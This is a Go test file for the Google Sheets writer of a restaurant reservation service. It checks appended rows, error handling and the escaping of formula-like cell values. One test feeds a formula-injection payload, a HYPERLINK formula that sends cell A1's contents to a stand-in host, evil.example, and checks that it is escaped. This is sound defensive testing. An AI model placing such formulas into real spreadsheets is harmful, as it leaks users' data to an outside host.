package sheets

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"google.golang.org/api/option"

	"github.com/wolfman30/restaurant-concierge/internal/booking"
)

type recordingAppender struct {
	rows [][]any
	err  error
}

func (r *recordingAppender) AppendRow(_ context.Context, values []any) error {
	if r.err != nil {
		return r.err
	}
	r.rows = append(r.rows, values)
	return nil
}

func TestReservationSink_Persist(t *testing.T) {
	rows := &recordingAppender{}
	sink := NewReservationSink(rows, time.UTC)
	sink.now = func() time.Time { return time.Date(2026, time.October, 14, 10, 0, 0, 0, time.UTC) }

	rec := booking.ReservationRecord{
		Name:      "Ana",
		Email:     "ana@example.com",
		At:        time.Date(2026, time.October, 20, 19, 30, 0, 0, time.UTC),
		PartySize: 4,
	}
	require.NoError(t, sink.Persist(context.Background(), rec, "evt-1"))
	require.Len(t, rows.rows, 1)
	assert.Equal(t, []any{
		"2026-10-14T10:00:00Z", "evt-1", "Ana", "ana@example.com",
		"2026-10-20", "19:30", 4, "None", "confirmed",
	}, rows.rows[0])
}

func TestAppender_AppendRow(t *testing.T) {
	var body struct {
		Values [][]any `json:"values"`
	}
	var path, inputOption string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		path = r.URL.Path
		inputOption = r.URL.Query().Get("valueInputOption")
		assert.NoError(t, json.NewDecoder(r.Body).Decode(&body))
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"spreadsheetId":"sheet-1","updates":{"updatedRows":1}}`))
	}))
	defer srv.Close()

	app, err := NewAppender(context.Background(), "sheet-1", "",
		option.WithEndpoint(srv.URL+"/"),
		option.WithoutAuthentication(),
		option.WithHTTPClient(srv.Client()),
	)
	require.NoError(t, err)

	require.NoError(t, app.AppendRow(context.Background(), []any{"evt-1", "Ana", 4}))
	assert.True(t, strings.HasSuffix(path, ":append"), path)
	assert.Contains(t, path, "sheet-1")
	assert.Equal(t, "USER_ENTERED", inputOption)
	require.Len(t, body.Values, 1)
	assert.Equal(t, []any{"evt-1", "Ana", float64(4)}, body.Values[0])
}

func TestReservationSink_FormulaTextStaysText(t *testing.T) {
	var body struct {
		Values [][]any `json:"values"`
	}
	var inputOption string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		inputOption = r.URL.Query().Get("valueInputOption")
		assert.NoError(t, json.NewDecoder(r.Body).Decode(&body))
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"spreadsheetId":"sheet-1"}`))
	}))
	defer srv.Close()

	app, err := NewAppender(context.Background(), "sheet-1", "",
		option.WithEndpoint(srv.URL+"/"),
		option.WithoutAuthentication(),
		option.WithHTTPClient(srv.Client()),
	)
	require.NoError(t, err)

	sink := NewReservationSink(app, time.UTC)
	rec := booking.ReservationRecord{
		Name:            "@Ana",
		Email:           "+ana@example.com",
		At:              time.Date(2026, time.October, 20, 19, 30, 0, 0, time.UTC),
		PartySize:       2,
		SpecialRequests: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
	}
	require.NoError(t, sink.Persist(context.Background(), rec, "evt-1"))

	assert.Equal(t, "USER_ENTERED", inputOption)
	require.Len(t, body.Values, 1)
	row := body.Values[0]
	assert.Equal(t, "'@Ana", row[2])
	assert.Equal(t, "'+ana@example.com", row[3])
	assert.Equal(t, `'=HYPERLINK("http://evil.example/?"&A1,"click")`, row[7])
}

func TestEscapeCell(t *testing.T) {
	tests := map[string]string{
		"":                "",
		"Ana":             "Ana",
		"window seat":     "window seat",
		"=1+1":            "'=1+1",
		"-2":              "'-2",
		"\t=cmd":          "'\t=cmd",
		"gluten-free =ok": "gluten-free =ok",
	}
	for in, want := range tests {
		assert.Equal(t, want, escapeCell(in), in)
	}
}

func TestAppender_Error(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, `{"error":{"code":404,"message":"not found"}}`, http.StatusNotFound)
	}))
	defer srv.Close()

	app, err := NewAppender(context.Background(), "missing", DefaultRange,
		option.WithEndpoint(srv.URL+"/"),
		option.WithoutAuthentication(),
		option.WithHTTPClient(srv.Client()),
	)
	require.NoError(t, err)
	assert.Error(t, app.AppendRow(context.Background(), []any{"x"}))
}

func TestNewAppender_RequiresSpreadsheet(t *testing.T) {
	_, err := NewAppender(context.Background(), " ", "")
	assert.Error(t, err)
}
